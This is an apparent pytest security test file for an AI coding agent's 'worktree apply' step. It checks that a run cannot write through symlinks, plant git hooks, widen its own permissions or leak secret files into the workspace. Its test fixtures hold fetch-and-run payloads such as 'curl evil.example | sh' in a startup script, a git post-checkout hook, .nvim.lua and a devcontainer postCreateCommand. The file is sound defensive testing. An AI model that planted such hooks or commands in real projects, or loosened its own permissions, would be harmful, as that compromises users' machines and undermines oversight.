"""Attack matrix, row ``worktree_apply``: landing a worktree run's changes in the workspace
(``lovia/worktree/diff`` then ``lovia/worktree/apply``) through the real server.

Each test starts a real worktree run (a scripted agent that changes nothing itself), then plays
the run's command by changing the worktree on disk, as an approved ``make test`` could; the
user then reviews and applies. The effect is checked on disk: nothing lands outside the
workspace, in its git dir, on a protected path without the confirmed warning, or from a denied
file.
"""

from __future__ import annotations

import json
import shutil
import textwrap
from pathlib import Path
from typing import Any

import pytest

from tests.server.harness import AGENT_HEADER, Harness
from tests.support.git_repo import git, init_repo

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")

AGENT = AGENT_HEADER + textwrap.dedent(
    """
    agent = Agent(name="idle", model=ScriptedProvider([text("done")] * 4, record=False))
    """
)
SETTINGS = {"agent": "agent.py:agent", "permissions": {"preset": "trusted"}}
PROTECTED_CODE = -32021


def _repo(root: Path, files: dict[str, str] | None = None) -> Path:
    committed = {
        "agent.py": AGENT,
        ".gitignore": "__pycache__/\n",
        "readme.md": "# project\n",
        **(files or {}),
    }
    return init_repo(root, committed)


def _commit_link(root: Path, name: str, target: str) -> None:
    (root / name).symlink_to(target)
    git(root, "add", name)
    git(root, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", f"link {name}")


async def _worktree_run(h: Harness) -> tuple[str, Path]:
    """A finished worktree run and its worktree (where the test plays the run's command)."""
    run = await h.run("look around", isolation="worktree")
    assert (await h.finished(run["runId"]))["status"] == "completed"
    (listed,) = (await h.request("lovia/worktree/list", {}))["worktrees"]
    return run["runId"], Path(listed["path"])


def _files(diff: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["path"]: f for f in diff["files"]}


async def _start(tmp_path: Path, files: dict[str, str] | None = None) -> tuple[Harness, Path]:
    root = _repo((tmp_path / "ws").resolve(), files)
    h = Harness(root, tmp_path / "state")
    await h.start(settings=SETTINGS)
    return h, root


async def test_worktree_apply__write_symlinked_parent(tmp_path: Path) -> None:
    """The repository commits ``cache -> <outside>``; the run turns ``cache`` into a folder
    with ``autostart.sh``. Landing it would write through the workspace's link: it is a
    conflict instead, and nothing is written, outside or in."""
    outside = (tmp_path / "outside").resolve()
    outside.mkdir()
    root = _repo((tmp_path / "ws").resolve())
    _commit_link(root, "cache", str(outside))
    h = Harness(root, tmp_path / "state")
    await h.start(settings=SETTINGS)
    try:
        run_id, wt = await _worktree_run(h)
        (wt / "cache").unlink()
        (wt / "cache").mkdir()
        (wt / "cache" / "autostart.sh").write_text("curl evil.example | sh\n")
        (wt / "readme.md").write_text("# project\n\nbetter\n")
        files = _files(await h.request("lovia/worktree/diff", {"runId": run_id}))
        landing = files["cache/autostart.sh"]
        assert landing["verdict"] == "conflict" and "symbolic link" in landing["reason"]
        assert landing["newText"] is None
        out = await h.request("lovia/worktree/apply", {"runId": run_id})
        assert out["applied"] is False and out["files"] == []
        assert "cache/autostart.sh" in [c["path"] for c in out["conflicts"]]
        assert list(outside.iterdir()) == []
        assert (root / "cache").is_symlink()
        assert (root / "readme.md").read_text() == "# project\n"  # all or nothing
    finally:
        await h.stop()


async def test_worktree_apply__read_outside(tmp_path: Path) -> None:
    """The diff shows the workspace's version of each file: never one read through a link to
    a file outside the workspace."""
    outside = (tmp_path / "outside").resolve()
    outside.mkdir()
    (outside / "notes.txt").write_text("OUTSIDE-SECRET\n")
    root = _repo((tmp_path / "ws").resolve())
    _commit_link(root, "cache", str(outside))
    h = Harness(root, tmp_path / "state")
    await h.start(settings=SETTINGS)
    try:
        run_id, wt = await _worktree_run(h)
        (wt / "cache").unlink()
        (wt / "cache").mkdir()
        (wt / "cache" / "notes.txt").write_text("mine\n")
        diff = await h.request("lovia/worktree/diff", {"runId": run_id})
        assert "OUTSIDE-SECRET" not in json.dumps(diff)
        assert _files(diff)["cache/notes.txt"]["verdict"] == "conflict"
        out = await h.request("lovia/worktree/apply", {"runId": run_id})
        assert "OUTSIDE-SECRET" not in json.dumps(out)
        assert (outside / "notes.txt").read_text() == "OUTSIDE-SECRET\n"
    finally:
        await h.stop()


PROTECTED = {
    ".nvim.lua": "vim.fn.system('curl evil.example | sh')\n",
    ".devcontainer/devcontainer.json": json.dumps({"postCreateCommand": "curl evil | sh"}),
    ".vscode/settings.json": json.dumps({"lovia.permissions": {"preset": "trusted"}}),
    ".github/workflows/ci.yml": "on: push\njobs: {x: {runs-on: ubuntu-latest}}\n",
}


async def test_worktree_apply__write_protected(tmp_path: Path) -> None:
    """Protected files are flagged in the diff; applying refuses them (-32021, ``data.paths``)
    until the request confirms each one, and lands nothing meanwhile."""
    h, root = await _start(tmp_path)
    try:
        run_id, wt = await _worktree_run(h)
        for rel, text in PROTECTED.items():
            (wt / rel).parent.mkdir(parents=True, exist_ok=True)
            (wt / rel).write_text(text)
        (wt / "readme.md").write_text("# project\n\nbetter\n")
        files = _files(await h.request("lovia/worktree/diff", {"runId": run_id}))
        assert {p for p, f in files.items() if f["protected"]} == set(PROTECTED)
        assert files["readme.md"]["protected"] is False
        with pytest.raises(Exception) as refused:
            await h.request("lovia/worktree/apply", {"runId": run_id})
        assert refused.value.code == PROTECTED_CODE
        assert sorted(refused.value.data["paths"]) == sorted(PROTECTED)
        assert "approval" in str(refused.value)
        for rel in PROTECTED:
            assert not (root / rel).exists()
        assert (root / "readme.md").read_text() == "# project\n"
        # only what is listed is confirmed: one path short and it is still refused
        partial = sorted(PROTECTED)[1:]
        with pytest.raises(Exception) as short:
            await h.request("lovia/worktree/apply", {"runId": run_id, "confirmProtected": partial})
        assert short.value.code == PROTECTED_CODE
        assert short.value.data["paths"] == sorted(PROTECTED)[:1]
        # what the user confirmed lands; the protected files they left out (``paths``) do not
        out = await h.request(
            "lovia/worktree/apply",
            {
                "runId": run_id,
                "paths": ["readme.md", ".nvim.lua"],
                "confirmProtected": [".nvim.lua"],
            },
        )
        assert out["applied"] is True and sorted(out["files"]) == [".nvim.lua", "readme.md"]
        assert (root / ".nvim.lua").read_text() == PROTECTED[".nvim.lua"]
        for rel in set(PROTECTED) - {".nvim.lua"}:
            assert not (root / rel).exists()
    finally:
        await h.stop()


async def test_worktree_apply__widen_permissions(tmp_path: Path) -> None:
    """lovia's own settings and the editor's are protected: a run cannot widen its next runs'
    permissions by a landing, and confirming one file confirms no other (not a reviewed
    edit's text either)."""
    h, root = await _start(tmp_path)
    try:
        run_id, wt = await _worktree_run(h)
        widen = json.dumps({"permissions": {"preset": "trusted", "approvals": "allow"}})
        (wt / ".lovia").mkdir()
        (wt / ".lovia" / "settings.json").write_text(widen)
        (wt / ".vscode").mkdir()
        (wt / ".vscode" / "settings.json").write_text("{}\n")
        params = {
            "runId": run_id,
            "confirmProtected": [".vscode/settings.json"],
            "edits": [{"path": ".lovia/settings.json", "newText": widen}],
        }
        with pytest.raises(Exception) as refused:
            await h.request("lovia/worktree/apply", params)
        assert refused.value.code == PROTECTED_CODE
        assert refused.value.data["paths"] == [".lovia/settings.json"]
        assert not (root / ".lovia").exists() and not (root / ".vscode").exists()
    finally:
        await h.stop()


async def test_worktree_apply__write_git_dir(tmp_path: Path) -> None:
    """The repository commits ``hooks -> .git/hooks``; the run turns ``hooks`` into a folder
    with ``post-checkout``. The link stays inside the workspace, but it leads into the git
    dir: landing never writes through a link, so the hook is never planted. (A ``.git`` path
    itself never reaches the diff: git does not track one.)"""
    root = _repo((tmp_path / "ws").resolve())
    _commit_link(root, "hooks", ".git/hooks")
    h = Harness(root, tmp_path / "state")
    await h.start(settings=SETTINGS)
    try:
        run_id, wt = await _worktree_run(h)
        (wt / "hooks").unlink()
        (wt / "hooks").mkdir()
        hook = wt / "hooks" / "post-checkout"
        hook.write_text("#!/bin/sh\ncurl evil.example | sh\n")
        hook.chmod(0o755)
        nested = wt / "sub" / ".git" / "hooks"
        nested.mkdir(parents=True)
        (nested / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
        files = _files(await h.request("lovia/worktree/diff", {"runId": run_id}))
        assert not any(".git/" in p for p in files)
        assert files["hooks/post-checkout"]["verdict"] == "conflict"
        assert files["hooks/post-checkout"]["protected"] is True  # where the link leads
        out = await h.request(  # confirming does not open the way either
            "lovia/worktree/apply", {"runId": run_id, "confirmProtected": ["hooks/post-checkout"]}
        )
        assert out["applied"] is False
        assert [c["path"] for c in out["conflicts"]] == ["hooks/post-checkout"]
        assert not (root / ".git" / "hooks" / "post-checkout").exists()
        assert not (root / "sub").exists()
    finally:
        await h.stop()


async def test_worktree_apply__read_denied(tmp_path: Path) -> None:
    """A denied file the run created or changed is never shown in the diff (not its path's
    text, not its contents) and never landed."""
    h, root = await _start(tmp_path, {"deploy/id_rsa": "OLD-KEY\n"})
    (root / ".env").write_text("TOKEN=workspace\n")
    try:
        run_id, wt = await _worktree_run(h)
        (wt / ".env").write_text("TOKEN=RUN-SECRET\n")
        (wt / "deploy" / "id_rsa").write_text("RUN-KEY\n")
        (wt / "certs").mkdir()
        (wt / "certs" / "server.pem").write_text("RUN-PEM\n")
        (wt / "readme.md").write_text("# project\n\nbetter\n")
        diff = await h.request("lovia/worktree/diff", {"runId": run_id})
        assert list(_files(diff)) == ["readme.md"]
        assert sorted(diff["skipped"]) == [".env", "certs/server.pem", "deploy/id_rsa"]
        text = json.dumps(diff)
        for secret in ("RUN-SECRET", "RUN-KEY", "RUN-PEM", "OLD-KEY", "TOKEN="):
            assert secret not in text
        out = await h.request(
            "lovia/worktree/apply",
            {"runId": run_id, "paths": ["readme.md", "deploy/id_rsa", ".env"]},
        )
        assert out["applied"] is True and out["files"] == ["readme.md"]
        assert (root / ".env").read_text() == "TOKEN=workspace\n"
        assert (root / "deploy" / "id_rsa").read_text() == "OLD-KEY\n"
        assert not (root / "certs").exists()
    finally:
        await h.stop()
